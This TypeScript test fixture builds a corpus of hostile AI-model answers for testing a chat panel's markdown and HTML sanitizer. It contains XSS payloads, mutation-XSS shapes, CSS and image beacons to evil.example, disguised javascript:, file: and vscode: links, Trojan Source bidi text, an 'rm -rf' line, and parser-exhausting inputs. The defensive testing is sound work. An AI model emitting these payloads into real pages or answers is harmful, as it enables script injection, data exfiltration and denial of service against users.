// Answers a hostile or broken model could stream into the panel: raw HTML and event handlers,
// SVG and MathML, mutation-XSS shapes, CSS that would fetch, images in every syntax, links with
// every dangerous scheme and the tricks that hide one, bidirectional text, and markdown giant or
// nested deep enough to break a parser. Every payload that could run calls `parleyCanary(name)`,
// which the suite counts; every address it could fetch is on evil.example, which nothing serves.
// Plain data (JSON-safe): the same corpus crosses into a browser page.

export interface HostileAnswer {
  readonly name: string;
  readonly text: string;
}

const CANARY = (name: string): string => `parleyCanary('${name}')`;
const EVIL = 'http://evil.example';

/** Raw HTML an answer could hold, each once as a block of its own and once inside a sentence. */
function rawHtml(): HostileAnswer[] {
  const payloads: Record<string, string> = {
    script: `<script>${CANARY('script')}</script>`,
    'script src': `<script src="${EVIL}/x.js"></script>`,
    'img onerror': `<img src=x onerror="${CANARY('img onerror')}">`,
    'svg onload': `<svg onload="${CANARY('svg onload')}"></svg>`,
    'body onload': `<body onload="${CANARY('body onload')}">`,
    'iframe javascript': `<iframe src="javascript:${CANARY('iframe javascript')}"></iframe>`,
    'iframe srcdoc': `<iframe srcdoc="<script>parent.${CANARY('iframe srcdoc')}</script>"></iframe>`,
    object: `<object data="javascript:${CANARY('object')}"></object>`,
    embed: `<embed src="${EVIL}/x.swf">`,
    'details ontoggle': `<details open ontoggle="${CANARY('details ontoggle')}"><summary>x</summary></details>`,
    'input onfocus': `<input autofocus onfocus="${CANARY('input onfocus')}">`,
    'video source onerror': `<video><source onerror="${CANARY('video source onerror')}"></video>`,
    'audio onerror': `<audio src=x onerror="${CANARY('audio onerror')}"></audio>`,
    marquee: `<marquee onstart="${CANARY('marquee')}">x</marquee>`,
    'meta refresh': `<meta http-equiv="refresh" content="0;url=javascript:${CANARY('meta refresh')}">`,
    base: `<base href="${EVIL}/">[relative](x.html)`,
    'form action': `<form action="javascript:${CANARY('form action')}"><button>go</button></form>`,
    'a href javascript': `<a href="javascript:${CANARY('a href javascript')}">click</a>`,
    'div onmouseover': `<div onmouseover="${CANARY('div onmouseover')}" style="position:fixed;inset:0">x</div>`,
    'animation event': `<style>@keyframes k{}</style><div style="animation:k 1s" onanimationstart="${CANARY('animation event')}">x</div>`,
    template: `<template><script>${CANARY('template')}</script></template>`,
    'button formaction': `<button formaction="javascript:${CANARY('button formaction')}">x</button>`,
    'select autofocus': `<select autofocus onfocus="${CANARY('select autofocus')}"></select>`,
    'textarea onfocus': `<textarea autofocus onfocus="${CANARY('textarea onfocus')}"></textarea>`,
    'html comment': `<!--><img src=x onerror="${CANARY('html comment')}">-->`,
    cdata: `<![CDATA[><img src=x onerror="${CANARY('cdata')}">]]>`,
    'processing instruction': `<?xml ><img src=x onerror="${CANARY('processing instruction')}">?>`,
  };
  return Object.entries(payloads).flatMap(([name, html]) => [
    { name: `raw HTML block: ${name}`, text: `Here it is:\n\n${html}\n\nDone.` },
    { name: `raw HTML inline: ${name}`, text: `A sentence with ${html} inside it.` },
  ]);
}

function svgAndMathMl(): HostileAnswer[] {
  return [
    ['svg script', `<svg><script>${CANARY('svg script')}</script></svg>`],
    ['svg xlink', `<svg><a xlink:href="javascript:${CANARY('svg xlink')}"><text y="20">x</text></a></svg>`],
    ['svg animate', `<svg><animate onbegin="${CANARY('svg animate')}" attributeName="x" dur="1s"/></svg>`],
    ['svg set href', `<svg><a><set attributeName="href" to="javascript:${CANARY('svg set href')}"/><text y="20">x</text></a></svg>`],
    ['svg foreignObject', `<svg><foreignObject><iframe srcdoc="<script>parent.${CANARY('svg foreignObject')}</script>"></iframe></foreignObject></svg>`],
    ['svg use', `<svg><use href="${EVIL}/sprite.svg#x"/></svg>`],
    ['math maction', `<math><maction actiontype="statusline" xlink:href="javascript:${CANARY('math maction')}">x</maction></math>`],
    ['math href', `<math href="javascript:${CANARY('math href')}"><mi>x</mi></math>`],
    ['svg in a table cell', `| a |\n|---|\n| <svg onload="${CANARY('svg in a table cell')}"> |`],
  ].map(([name, text]) => ({ name: `SVG/MathML: ${name}`, text: `${text}\n\nThat was ${name}.` }));
}

/** LaTeX that would link, load, style or run if the typesetter trusted it, and formulas that cost. */
function math(): HostileAnswer[] {
  return [
    ['href', `$\\href{javascript:${CANARY('math href')}}{x}$`],
    ['url', `$\\url{javascript:${CANARY('math url')}}$`],
    ['includegraphics', `$$\\includegraphics{${EVIL}/x.png}$$`],
    ['htmlStyle url', `$\\htmlStyle{background:url(${EVIL}/x.png)}{x}$`],
    ['htmlClass and htmlData', `$\\htmlClass{turn-actions}{x} \\htmlData{x=1}{y} \\htmlId{app}{z}$`],
    ['color that names a resource', `$\\color{url(${EVIL}/x)}{x}$ and $\\textcolor{expression(${CANARY('math color')})}{y}$`],
    ['raw HTML in a formula', `$<img src=x onerror=${CANARY('raw HTML in a formula')}>$`],
    ['a formula that closes an element', `$x</span><img src=x onerror=${CANARY('a formula that closes an element')}>$`],
    ['macro bomb', `$\\def\\a{\\b\\b}\\def\\b{\\c\\c}\\def\\c{\\d\\d}\\def\\d{xxxxxxxxxx}\\a\\a\\a\\a\\a\\a\\a\\a$`],
    ['a huge rule', `$\\rule{100000em}{100000em}$`],
    ['2,000 nested fractions', `$${'\\frac{1}{'.repeat(2_000)}x${'}'.repeat(2_000)}$`],
    ['1,000 formulas in 10 paragraphs', `${'$x_i$ '.repeat(100)}\n\n`.repeat(10)],
    ['150 different formulas in one paragraph', Array.from({ length: 150 }, (_, i) => `$\\frac{${i}}{y_${i}}$`).join(' ')],
    ['an unclosed display formula, 5,000 lines', `$$\n${'a + b \\\\\n'.repeat(5_000)}`],
  ].map(([name, text]) => ({ name: `math: ${name}`, text: `${text}\n\nThat was ${name}.` }));
}

/** Shapes that have made sanitizers and parsers disagree about where markup ends. */
function mutationXss(): HostileAnswer[] {
  return [
    ['svg p style', `<svg></p><style><a id="</style><img src=1 onerror=${CANARY('svg p style')}>">`],
    ['math mglyph', `<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=${CANARY('math mglyph')} src=1>">`],
    ['form math', `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${CANARY('form math')}>`],
    ['noscript title', `<noscript><p title="</noscript><img src=x onerror=${CANARY('noscript title')}>">`],
    ['svg style img', `<svg><style><img src=x onerror=${CANARY('svg style img')}></style></svg>`],
    ['table script', `<table><td><script>${CANARY('table script')}</script></td></table>`],
    ['select template', `<select><template><style><img src=x onerror=${CANARY('select template')}></style></template></select>`],
    ['code span with HTML', `\`<img src=x onerror=${CANARY('code span with HTML')}>\``],
    ['link title breaks out', `[a](https://example.com "\\"><img src=x onerror=${CANARY('link title breaks out')}>")`],
    ['link href breaks out', `[a](https://example.com/"onmouseover="${CANARY('link href breaks out')}")`],
    ['image alt with HTML', `![<img src=x onerror=${CANARY('image alt with HTML')}>](https://example.com/a.png)`],
    ['fence info string', `\`\`\`js" onmouseover="${CANARY('fence info string')}\nx\n\`\`\``],
    ['fence info with HTML', `\`\`\`<img/src=x/onerror=${CANARY('fence info with HTML')}>\nx\n\`\`\``],
    ['heading with HTML', `# <img src=x onerror=${CANARY('heading with HTML')}>`],
    ['emphasis around HTML', `**<img src=x onerror=${CANARY('emphasis around HTML')}>**`],
    ['part break forged', `<hr data-part-break=""><img src=x onerror=${CANARY('part break forged')}>`],
    ['entity-encoded tag', `&lt;img src=x onerror=${CANARY('entity-encoded tag')}&gt;`],
    ['nested quotes', `<a title='"><img src=x onerror=${CANARY('nested quotes')}>'>x</a>`],
    ['task list with HTML', `- [x] <img src=x onerror=${CANARY('task list with HTML')}>`],
    ['footnote-like', `[^1]\n\n[^1]: <img src=x onerror=${CANARY('footnote-like')}>`],
  ].map(([name, text]) => ({ name: `mXSS: ${name}`, text }));
}

function cssExfiltration(): HostileAnswer[] {
  return [
    ['style tag', `<style>body{background:url(${EVIL}/style-tag)}</style>`],
    ['style attribute', `<div style="background:url(${EVIL}/style-attribute)">x</div>`],
    ['attribute selector', `<style>textarea[value^="a"]{background:url(${EVIL}/a)}</style>`],
    ['import', `<style>@import url(${EVIL}/import.css);</style>`],
    ['link stylesheet', `<link rel="stylesheet" href="${EVIL}/sheet.css">`],
    ['font-face', `<style>@font-face{font-family:x;src:url(${EVIL}/font.woff)}body{font-family:x}</style>`],
    ['svg style', `<svg><style>@import "${EVIL}/svg.css";</style></svg>`],
    ['span style in markdown', `Some **bold <span style="background-image:url(${EVIL}/span)">text</span>**.`],
  ].map(([name, text]) => ({ name: `CSS: ${name}`, text: `${text}\n\nStyled.` }));
}

function images(): HostileAnswer[] {
  return [
    ['markdown', `![a picture](${EVIL}/md.png)`],
    ['markdown with title', `![a picture](${EVIL}/md-title.png "title")`],
    ['angle-bracket destination', `![a picture](<${EVIL}/a b.png>)`],
    ['protocol-relative', '![a picture](//evil.example/relative.png)'],
    ['reference-style', `![a picture][pic]\n\n[pic]: ${EVIL}/ref.png`],
    ['collapsed reference', `![pic][]\n\n[pic]: ${EVIL}/collapsed.png`],
    ['inside a link', `[![badge](${EVIL}/badge.svg)](https://example.com)`],
    ['data URI', '![x](data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4=)'],
    ['html img', `<img src="${EVIL}/html.png">`],
    ['html srcset', `<img srcset="${EVIL}/1x.png 1x, ${EVIL}/2x.png 2x">`],
    ['picture source', `<picture><source srcset="${EVIL}/source.png"><img src="${EVIL}/fallback.png"></picture>`],
    ['css url', `<div style="background-image:url(${EVIL}/css.png)">x</div>`],
    ['svg image', `<svg><image href="${EVIL}/svg.png"/></svg>`],
    ['input image', `<input type="image" src="${EVIL}/input.png">`],
    ['video poster', `<video poster="${EVIL}/poster.png"></video>`],
    ['link icon', `<link rel="icon" href="${EVIL}/favicon.ico">`],
    ['body background', `<body background="${EVIL}/body.png">`],
    ['table background', `<table background="${EVIL}/table.png"><tr><td>x</td></tr></table>`],
    ['image in a table', `| a |\n|---|\n| ![x](${EVIL}/cell.png) |`],
    ['image in a list', `- ![x](${EVIL}/list.png)`],
    ['image in a heading', `## ![x](${EVIL}/heading.png)`],
  ].map(([name, text]) => ({ name: `image: ${name}`, text: `${text}\n\nThat was an image.` }));
}

/** Every scheme that could run, open or fetch something, disguised every way a parser may undo. */
function links(): HostileAnswer[] {
  const schemes = [
    `javascript:${CANARY('javascript')}`,
    `JaVaScRiPt:${CANARY('mixed case')}`,
    'vbscript:msgbox(1)',
    'data:text/html,<script>parent.parleyCanary(1)</script>',
    'data:text/html;base64,PHNjcmlwdD5wYXJlbnQucGFybGV5Q2FuYXJ5KDEpPC9zY3JpcHQ+',
    'file:///etc/passwd',
    'vscode://vscode.git/clone?url=http://evil.example/x',
    'vscode-file://vscode-app/etc/passwd',
    'command:workbench.action.terminal.new',
    'search-ms:query=x&crumb=location:\\\\evil.example\\share',
    'smb://evil.example/share',
    'ms-settings:privacy',
    'blob:http://evil.example/x',
    'about:blank',
    'chrome://settings',
    'intent://evil#Intent;end',
    'jar:http://evil.example/x.jar!/',
    'ftp://evil.example/x',
  ];
  const disguises: [string, string][] = [
    ['leading spaces', `  javascript:${CANARY('leading spaces')}`],
    ['entity j', `&#106;avascript:${CANARY('entity j')}`],
    ['hex entity', `&#x6A;avascript:${CANARY('hex entity')}`],
    ['entity colon', `javascript&colon;${CANARY('entity colon')}`],
    ['named entities', `&NewLine;javascript&colon;${CANARY('named entities')}`],
    ['tab inside', `<java\tscript:${CANARY('tab inside')}>`],
    ['newline entity inside', `java&#10;script:${CANARY('newline entity inside')}`],
    ['NUL', `java\u0000script:${CANARY('NUL')}`],
    ['control character before', `\u0001javascript:${CANARY('control character before')}`],
    ['zero-width space', `\u200bjavascript:${CANARY('zero-width space')}`],
    ['percent-encoded', `%6Aavascript:${CANARY('percent-encoded')}`],
    ['backslash escape', `javascript\\:${CANARY('backslash escape')}`],
    ['angle brackets', `<javascript:${CANARY('angle brackets')}>`],
    ['https then javascript', `https:javascript:${CANARY('https then javascript')}`],
  ];
  const answers: HostileAnswer[] = [];
  for (const href of schemes) {
    const scheme = href.slice(0, href.indexOf(':'));
    answers.push({
      name: `link scheme ${scheme}`,
      text: `[inline](${href.replace(/[()]/g, (c) => `\\${c}`)}) and [reference][r] and <${href}> and [angle](<${href}>).\n\n[r]: ${href}`,
    });
  }
  for (const [name, href] of disguises) {
    const destination = href.startsWith('<') ? href : href.replace(/[()]/g, (c) => `\\${c}`);
    answers.push({ name: `link disguise: ${name}`, text: `[inline](${destination}) and [reference][r].\n\n[r]: ${destination}` });
  }
  answers.push({ name: 'link: autolink with javascript', text: `<javascript:${CANARY('autolink')}> www.example.com javascript:${CANARY('bare')}` });
  answers.push({ name: 'link: html anchor with entities', text: `<a href="&#x6A;avascript:${CANARY('html anchor with entities')}">x</a>` });
  return answers;
}

function bidi(): HostileAnswer[] {
  return [
    {
      name: 'bidi: Trojan Source in a code block',
      text: '```js\nconst accessLevel = "user";\nif (accessLevel != "user\u202E \u2066// Check if admin\u2069 \u2066") {\n  console.log("You are an admin.");\n}\n```',
    },
    { name: 'bidi: every control in inline code', text: 'Run `rm -rf \u202Atmp\u202B\u202C\u202D\u202E\u2066\u2067\u2068\u2069\u200E\u200F\u061C`.' },
    { name: 'bidi: override in prose and a link', text: 'Open [\u202Etxt.exe](https://example.com/file) from \u202Egnp.exe.' },
    { name: 'bidi: isolates in a table', text: '| a | b |\n|---|---|\n| `\u2067x\u2069` | \u2068y\u2069 |' },
    { name: 'bidi: streamed code without a language', text: '```\nreturn \u202Etrue;\u202C // \u2066ok\u2069\n```\nafter' },
  ];
}

/** Markdown that is giant, or nested deeper than any answer needs. */
function giants(): HostileAnswer[] {
  return [
    { name: 'giant: 10,000 nested quotes on one line', text: `${'>'.repeat(10_000)} deep` },
    { name: 'giant: 2,000 lines of ever deeper quotes', text: Array.from({ length: 2_000 }, (_, i) => `${'>'.repeat(i + 1)} level ${i + 1}`).join('\n') },
    { name: 'giant: 10,000 nested list markers', text: `${'- '.repeat(10_000)}deep` },
    { name: 'giant: 1,000 list levels by indentation', text: Array.from({ length: 1_000 }, (_, i) => `${'  '.repeat(i)}- level ${i + 1}`).join('\n') },
    { name: 'giant: quotes and lists interleaved 5,000 deep', text: `${'> - '.repeat(5_000)}deep` },
    { name: 'giant: 100,000 [', text: '['.repeat(100_000) },
    { name: 'giant: 100,000 *', text: '*'.repeat(100_000) },
    { name: 'giant: 50,000 `_a`', text: '_a'.repeat(50_000) },
    { name: 'giant: 30,000 `a*b_`', text: 'a*b_'.repeat(30_000) },
    { name: 'giant: 20,000-deep emphasis', text: `${'*a '.repeat(20_000)}${'b*'.repeat(20_000)}` },
    { name: 'giant: 100,000 <', text: '<'.repeat(100_000) },
    { name: 'giant: 50,000 backticks', text: '`'.repeat(50_000) },
    { name: 'giant: 5,000 nested brackets', text: `${'['.repeat(5_000)}a${']'.repeat(5_000)}` },
    { name: 'giant: 30,000 unclosed links', text: '[a]('.repeat(30_000) },
    { name: 'giant: 100,000 backslashes', text: '\\'.repeat(100_000) },
    { name: 'giant: a 300,000-character paragraph', text: 'word '.repeat(60_000) },
    { name: 'giant: a 20,000-row table', text: `| a | b |\n|---|:-:|\n${'| x | y |\n'.repeat(20_000)}` },
    { name: 'giant: 20,000 headings', text: '# heading\n'.repeat(20_000) },
    { name: 'giant: 20,000 lazy quote lines', text: '> line\n'.repeat(20_000) },
    {
      name: 'giant: 10,000 reference definitions',
      text: Array.from({ length: 10_000 }, (_, i) => `[r${i}]\n\n[r${i}]: https://example.com/${i}`).join('\n\n'),
    },
    { name: 'giant: a 300,000-character code block', text: `\`\`\`js\n${'const value = compute(1, 2); // step\n'.repeat(8_000)}\`\`\`` },
    { name: 'giant: a code block whose comment never closes', text: `\`\`\`js\n/* open\n${'still in the comment\n'.repeat(10_000)}\`\`\`` },
    { name: 'giant: a code block that never closes', text: `\`\`\`python\n${'x = "unterminated\n'.repeat(5_000)}` },
    { name: 'giant: 50,000 nested HTML tags (shown as text)', text: '<div>'.repeat(50_000) },
    { name: 'giant: 100,000 tildes', text: '~'.repeat(100_000) },
    { name: 'giant: 10,000 links in a paragraph', text: '[link](https://example.com) '.repeat(10_000) },
  ];
}

/** About this many deltas per answer: a giant answer streams in bigger pieces, as from a fast server. */
const DELTAS_PER_ANSWER = 120;

/** The characters of each delta `text` streams in, in the suite and in the benchmark. */
export function hostileDeltaSize(text: string): number {
  return Math.max(40, Math.ceil(text.length / DELTAS_PER_ANSWER));
}

export function hostileAnswers(): HostileAnswer[] {
  return [...rawHtml(), ...svgAndMathMl(), ...math(), ...mutationXss(), ...cssExfiltration(), ...images(), ...links(), ...bidi(), ...giants()];
}
